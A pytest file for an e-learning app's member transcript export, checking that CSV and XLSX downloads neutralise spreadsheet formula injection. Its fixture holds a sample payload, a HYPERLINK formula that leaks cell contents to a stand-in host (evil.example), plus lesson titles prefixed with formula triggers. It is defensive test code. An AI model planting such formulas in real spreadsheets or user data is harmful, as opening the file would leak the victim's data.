"""A member's transcript (/me/transcript.csv, /me/transcript.xlsx), read back as a spreadsheet program would:
no cell is a formula — not the member's own name, nor a title or a note — and hours stay numbers (a
correction's negative hours included)."""
import csv
import io
from datetime import date

import pytest
from openpyxl import load_workbook

from elearn.extensions import db
from elearn.ledger import services as ledger

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击")'
HOSTILE_TITLES = ["+SUM(1,1) 第一讲", "-2+3 第二讲", "@SUM(1) 第三讲", "\t=1+1 第四讲", "\r=1+1 第五讲",
                  "＝1+1 第六讲", "＋1 第七讲", "－1 第八讲", "＠SUM(1) 第九讲"]


def is_number(text):
    try:
        float(text)
    except ValueError:
        return False
    return True


@pytest.fixture
def member(make_org, make_user):
    org = make_org("镇党委")
    user = make_user(name=HOSTILE_NAME, org=org)
    for i, title in enumerate(HOSTILE_TITLES, start=1):
        ledger.credit(user, kind="lesson", source_kind="lesson", source_id=i, hours=1.5, title=title,
                      category="political_theory", innovative_theory=True, credited_on=date(2025, 3, i))
    db.session.commit()
    admin = make_user(org=org, role="org_admin")
    wrong = next(e for e in ledger.entries(user) if e.title == HOSTILE_TITLES[0])
    ledger.correct(admin, wrong.id, "=1+1 误记")
    return user


def test_csv_transcript_has_no_formula_and_plain_numbers(client, auth, member):
    auth.login(member.username)
    r = client.get("/me/transcript.csv")
    assert r.status_code == 200
    rows = list(csv.reader(io.StringIO(r.data.decode("utf-8-sig"), newline="")))
    rows = rows[:rows.index([])]  # the credits (the member's notes follow, tests/community/test_notes.py)
    assert rows[0][1] == "'" + HOSTILE_NAME  # the member's own name, in the heading row
    titles = [row[2] for row in rows[2:]]
    for title in HOSTILE_TITLES:
        assert "'" + title in titles, repr(title)
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")) or is_number(cell)
               for row in rows for cell in row)
    hours = [row[7] for row in rows[2:]]
    assert "-1.5" in hours and "1.5" in hours  # numbers, not quoted as text
    assert "'=1+1 误记" in [row[8] for row in rows[2:]]


def test_xlsx_transcript_has_text_cells_and_numbers(client, auth, member):
    auth.login(member.username)
    r = client.get("/me/transcript.xlsx")
    assert r.status_code == 200
    ws = load_workbook(io.BytesIO(r.data)).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]  # no formula anywhere
    name = ws["B1"]
    assert name.value == HOSTILE_NAME and name.data_type == "s" and name.quotePrefix
    by_text = {c.value: c for c in cells if isinstance(c.value, str)}
    for title in HOSTILE_TITLES:
        cell = by_text[title]  # the title as it is, shown as text
        assert cell.data_type == "s" and cell.quotePrefix, repr(title)
    hours = [row[7].value for row in ws.iter_rows(min_row=5)]
    assert -1.5 in hours and 1.5 in hours
    assert all(isinstance(h, float) for h in hours)
    assert ws["B2"].data_type == "n"  # the total
